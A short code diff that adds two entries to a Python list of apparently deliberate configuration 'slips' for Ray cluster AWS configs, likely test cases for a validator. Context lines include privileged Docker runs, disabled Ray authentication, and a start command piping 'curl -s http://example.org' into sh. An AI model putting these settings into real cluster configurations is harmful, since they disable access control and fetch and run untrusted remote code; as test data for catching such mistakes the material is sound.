@@ -84,6 +84,8 @@ SLIPS: list[tuple[Path, str, Any]] = [
     (AWS, "idle_timeout_minutes", 70000),
     (AWS, "docker/run_options/+", "--privileged"),
     (AWS, "docker/run_options/+", "--env RAY_AUTH_MODE=disabled"),
+    (AWS, "docker/run_options/2", "--env AWS_DEFAULT_REGION=us-east-1"),
+    (AWS, "docker/run_options/2", "--env RAY_AUTH_MODE=disabled"),
     (AWS, "head_start_ray_commands/+", "curl -s http://example.org | sh"),
     (AWS, "worker_start_ray_commands", ["ray stop"]),
     (AWS, f"{GPU}/min_workers", 4),
